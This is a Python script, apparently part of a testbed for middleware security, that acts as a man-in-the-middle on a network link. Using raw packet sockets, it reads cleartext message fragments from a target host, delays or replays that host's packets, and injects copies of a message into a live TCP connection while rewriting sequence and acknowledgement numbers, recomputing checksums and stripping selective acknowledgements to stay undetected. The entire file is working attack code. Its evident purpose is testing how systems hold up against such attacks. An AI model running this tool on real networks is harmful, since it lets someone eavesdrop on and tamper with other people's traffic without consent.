"""Attacks of somebody through whom all packets of the link go, such as a switch or an access point: through.py WHAT PUBLISHER [WORDS].

read     looks whether packets of the publisher have pieces of its messages in clear: WORDS are BODIES STREAM LENGTH, by which it knows one when it sees one
delay    holds back each packet of the publisher for half a second
replay   sends each packet of the publisher once more, a third of a second later
insert   sends one message once more within a TCP connection of the publisher, whose later numbers it changes, so that neither end notices

Everything else is passed on as it came. Knows no keys, and nothing of any middleware. The attack begins 1.5 s after the first packet with data.
"""

import heapq
import itertools
import pathlib
import select
import signal
import socket
import struct
import sys
import time

BEGIN_S = 1.5
HELD_S = 0.5
REPEATED_AFTER_S = 0.33
# A message ends where a connection is silent for this long.
GAP_S = 0.008
# Of a message, as long as no other has it by chance [byte].
PIECE = 24
# As many as surely find room at a receiver.
INSERTED_BYTES_MAX = 60_000
COPIES_MAX = 5
ETHERNET, IPV4 = 14, 0x0800
TCP, UDP = 6, 17
ACK_AND_PUSH = 0x18
OUTGOING = 4
BUFFER = 8 << 20


def sum_of(data):
    """The sum of RFC 1071, not yet complemented."""
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def after(one, other):
    """Whether a sequence number is not before another one."""
    return (one - other) & 0xFFFFFFFF < 1 << 31


class Segment:
    """A TCP segment in an Ethernet frame, or None for other frames."""

    @staticmethod
    def of(frame):
        if len(frame) < ETHERNET + 40 or frame[12:14] != b"\x08\x00" or frame[ETHERNET + 9] != TCP:
            return None
        segment = Segment()
        segment.frame = bytearray(frame)
        segment.tcp = ETHERNET + (frame[ETHERNET] & 15) * 4
        end = ETHERNET + struct.unpack_from(">H", frame, ETHERNET + 2)[0]
        segment.flow = frame[ETHERNET + 12 : ETHERNET + 20] + frame[segment.tcp : segment.tcp + 4]
        segment.sequence, segment.acknowledged = struct.unpack_from(">II", frame, segment.tcp + 4)
        segment.data_at = segment.tcp + (frame[segment.tcp + 12] >> 4) * 4
        segment.data = bytes(frame[segment.data_at : end])
        return segment

    def reverse(self):
        addresses, ports = self.flow[:8], self.flow[8:]
        return addresses[4:] + addresses[:4] + ports[2:] + ports[:2]

    def with_numbers(self, sequence, acknowledged, data=None, flags=None):
        """The frame with other numbers, and with other data if there are some."""
        frame = self.frame if data is None else self.frame[: self.data_at] + data
        struct.pack_into(">II", frame, self.tcp + 4, sequence & 0xFFFFFFFF, acknowledged & 0xFFFFFFFF)
        if flags is not None:
            frame[self.tcp + 13] = flags
        self.without_selective(frame)
        length = len(frame) - ETHERNET if data is not None else struct.unpack_from(">H", frame, ETHERNET + 2)[0]
        struct.pack_into(">H", frame, ETHERNET + 2, length)
        struct.pack_into(">H", frame, ETHERNET + 10, 0)
        struct.pack_into(">H", frame, ETHERNET + 10, 0xFFFF ^ sum_of(bytes(frame[ETHERNET : self.tcp])))
        struct.pack_into(">H", frame, self.tcp + 16, 0)
        content = bytes(frame[self.tcp : ETHERNET + length])
        pseudo = bytes(frame[ETHERNET + 12 : ETHERNET + 20]) + struct.pack(">HH", TCP, len(content))
        struct.pack_into(">H", frame, self.tcp + 16, 0xFFFF ^ sum_of(pseudo + content))
        return bytes(frame)

    def without_selective(self, frame):
        """Selective acknowledgements have numbers too; without them both ends do as if there were none."""
        at, end = self.tcp + 20, self.data_at
        while at < end and frame[at] != 0:
            length = 1 if frame[at] == 1 else max(frame[at + 1], 2) if at + 1 < end else end
            if frame[at] == 5:
                frame[at : at + length] = b"\x01" * length
            at += length


class Read:
    """Counts the messages of which a piece of 24 bytes is in a packet; at several places, since the cut between two packets may be at one."""

    def __init__(self, link, publisher, bodies, stream, length):
        self.link, self.publisher, self.seen = link, publisher, 0
        known = list(messages(bodies, stream, int(length)))
        self.pieces = [{body[at : at + PIECE] for body in known if len(body) >= at + PIECE} for at in range(PIECE, 600, 97)]
        # A scan of nothing looks like many other things.
        self.pieces = [{piece for piece in pieces if len(set(piece)) > 4} for pieces in self.pieces]
        self.found = [0] * len(self.pieces)

    def take(self, frame, now):
        self.link.send(frame)
        if source(frame) == self.publisher:
            self.seen += 1
            for place, pieces in enumerate(self.pieces):
                self.found[place] += any(piece in frame for piece in pieces)

    def word(self):
        # Who knows no piece of a message has not looked.
        has_looked = self.seen and any(self.pieces)
        return f"{max(self.found)} messages read, in clear in {self.seen} packets" if has_looked else ""


def messages(folder, stream, length):
    """The bodies of a stream as ../common/bodies.c has them, from the file or made up."""
    path = pathlib.Path(folder, f"{stream}.bodies")
    if folder and path.is_file():
        data = path.read_bytes()
        for number in range(struct.unpack_from("<I", data, 12)[0]):
            begin, size, _ = struct.unpack_from("<QII", data, 16 + 16 * number)
            yield data[begin : begin + size]
        return
    for seed in range(1, 9):
        body = bytearray()
        for _ in range(min(length, 1_000)):
            seed = (seed * 1664525 + 1013904223) & 0xFFFFFFFF
            body.append(seed >> 24)
        yield bytes(body)


class Delay:
    def __init__(self, link, publisher):
        self.link, self.publisher, self.held = link, publisher, 0

    def take(self, frame, now):
        if source(frame) != self.publisher:
            return self.link.send(frame)
        self.held += 1
        return self.link.send_at(now + HELD_S, frame)

    def word(self):
        return f"{self.held} packets held back for {HELD_S} s" if self.held else ""


class Replay:
    def __init__(self, link, publisher):
        self.link, self.publisher, self.repeated = link, publisher, 0

    def take(self, frame, now):
        self.link.send(frame)
        if source(frame) == self.publisher:
            self.repeated += 1
            self.link.send_at(now + REPEATED_AFTER_S, frame)

    def word(self):
        return f"{self.repeated} packets repeated {REPEATED_AFTER_S} s later" if self.repeated else ""


class Insert:
    """Learns the longest message between two gaps of the publisher's busiest connection, and sends it again in a later gap."""

    def __init__(self, link, publisher):
        self.link, self.publisher = link, publisher
        self.bytes_of, self.last, self.message, self.whole = {}, {}, {}, {}
        self.flow, self.point, self.shift, self.copies = None, 0, 0, 0

    def take(self, frame, now):
        segment = Segment.of(frame)
        if segment is None:
            return self.link.send(frame)
        if self.flow is not None and segment.flow == self.flow and after(segment.sequence, self.point):
            return self.link.send(segment.with_numbers(segment.sequence + self.shift, segment.acknowledged))
        if self.flow is not None and segment.reverse() == self.flow and after(segment.acknowledged, self.point):
            passed = (segment.acknowledged - self.point) & 0xFFFFFFFF
            acknowledged = self.point + max(0, passed - self.shift)
            return self.link.send(segment.with_numbers(segment.sequence, acknowledged))
        self.link.send(frame)
        if self.flow is None and source(frame) == self.publisher and segment.data:
            self.learn(segment, now)

    def learn(self, segment, now):
        flow = segment.flow
        previous = self.last.get(flow)
        if previous is not None and now - previous[0] > GAP_S:
            # What is under way at first may have begun before.
            self.whole[flow] = self.message.get(flow, [])
            self.message[flow] = []
        if flow in self.message:
            self.message[flow].append(segment.data)
        self.bytes_of[flow] = self.bytes_of.get(flow, 0) + len(segment.data)
        self.last[flow] = (now, segment)

    def idle(self, now):
        if self.flow is not None or not self.bytes_of:
            return
        busiest = max(self.bytes_of, key=self.bytes_of.get)
        when, segment = self.last[busiest]
        parts = self.whole.get(busiest, [])
        length = sum(map(len, parts))
        if now - when <= GAP_S or not 0 < length <= INSERTED_BYTES_MAX:
            return
        self.flow, self.point = busiest, (segment.sequence + len(segment.data)) & 0xFFFFFFFF
        self.copies = max(1, min(COPIES_MAX, INSERTED_BYTES_MAX // length))
        for part in parts * self.copies:
            self.link.send(segment.with_numbers(self.point + self.shift, segment.acknowledged, part, ACK_AND_PUSH))
            self.shift += len(part)

    def word(self):
        ports = struct.unpack(">HH", self.flow[8:]) if self.flow else None
        return f"{self.copies} copies of a message inserted into the connection to port {ports[1]}" if ports else ""


class Link:
    def __init__(self):
        name = next(name for _, name in socket.if_nameindex() if name != "lo")
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, BUFFER)
        self.socket.bind((name, 0))
        self.waiting, self.order = [], itertools.count()

    def send(self, frame):
        try:
            self.socket.send(frame)
        except OSError as error:
            print(f"a packet of {len(frame)} B could not be passed on: {error}", flush=True)

    def send_at(self, when, frame):
        heapq.heappush(self.waiting, (when, next(self.order), frame))

    def turn(self):
        """Sends what is due, and returns the next frame, or None after a moment."""
        now = time.monotonic()
        while self.waiting and self.waiting[0][0] <= now:
            self.send(heapq.heappop(self.waiting)[2])
        timeout = min(GAP_S, self.waiting[0][0] - now) if self.waiting else GAP_S
        if not select.select([self.socket], [], [], timeout)[0]:
            return None
        frame, (_, _, kind, *_) = self.socket.recvfrom(1 << 17)
        return None if kind == OUTGOING else frame


def source(frame):
    return frame[ETHERNET + 12 : ETHERNET + 16] if frame[12:14] == b"\x08\x00" else b""


def has_data(frame):
    segment = Segment.of(frame)
    return len(segment.data) > 0 if segment else frame[12:14] == b"\x08\x00" and frame[ETHERNET + 9] == UDP


def main():
    what, publisher, *words = sys.argv[1:]
    link, publisher = Link(), socket.inet_aton(publisher)
    attack = {"read": Read, "delay": Delay, "replay": Replay, "insert": Insert}[what](link, publisher, *words)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    begins_at = None
    try:
        while True:
            frame, now = link.turn(), time.monotonic()
            is_begun = begins_at is not None and now >= begins_at
            if frame is None:
                if is_begun and what == "insert":
                    attack.idle(now)
                continue
            if begins_at is None and source(frame) == publisher and has_data(frame):
                begins_at = now + BEGIN_S
            if is_begun:
                attack.take(frame, now)
            else:
                link.send(frame)
    finally:
        # Without a word nobody takes it for an attack that was stopped.
        if attack.word():
            print(attack.word(), flush=True)


if __name__ == "__main__":
    main()
